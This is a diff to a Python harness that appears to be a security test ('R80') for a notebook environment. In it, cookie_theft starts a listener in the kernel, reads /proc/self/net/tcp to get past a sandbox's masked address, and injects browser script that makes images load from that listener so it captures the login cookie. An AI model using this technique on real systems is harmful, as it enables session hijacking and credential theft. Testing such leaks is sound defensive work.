@@ -22,21 +22,28 @@ def _hear():
         _heard.append(peer.recv(9000).decode(errors="replace"))
         peer.sendall(b"HTTP/1.0 204 No Content\\r\\n\\r\\n"); peer.close()
 threading.Thread(target=_hear, daemon=True).start()
-print("at", *_listener.getsockname()[:1], "port", _listener.getsockname()[1])
+import os
+_at = [_listener.getsockname()]
+for _row in map(str.split, open("/proc/self/net/tcp")):
+    if _row[9] == str(os.fstat(_listener.fileno()).st_ino):
+        _host, _port = _row[1].split(":")
+        _at.append((socket.inet_ntoa(bytes.fromhex(_host)[::-1]), int(_port, 16)))
+for _place in _at:
+    print("at", *_place[:1], "port", _place[1])
 """
-"""A listener in the kernel; a walled one is given an address of its own."""
+"""A listener in the kernel; a walled one is told another place than it really has."""
 
 
 def cookie_theft(tab: Tab, mark: Path) -> str:
     """R80: a picture from the kernel's own port brings the login cookie along."""
     said = tab.notebook.run_code(LISTEN)
-    found = re.search(r"at ([\d.]+) port (\d+)", said)
+    found = re.findall(r"at ([\d.]+) port (\d+)", said)
     if not found:
         return said.splitlines()[-1] if said else "no port"
-    host, port = found.groups()
+    places = [f"{name}:{port}" for host, port in found for name in (host, "127.0.0.1", "localhost")]
     tab.script(
-        f"for (const host of {[host, '127.0.0.1', 'localhost']!r})"
-        f"  new Image().src = `http://${{host}}:{port}/x.png`; await sleep(1500); return 1"
+        f"for (const place of {places!r})"
+        "  new Image().src = `http://${place}/x.png`; await sleep(1500); return 1"
     )
     heard = tab.notebook.run_code("print('|'.join(_heard))")
     cookie = re.search(r"^Cookie: (.+)$", heard, re.MULTILINE)
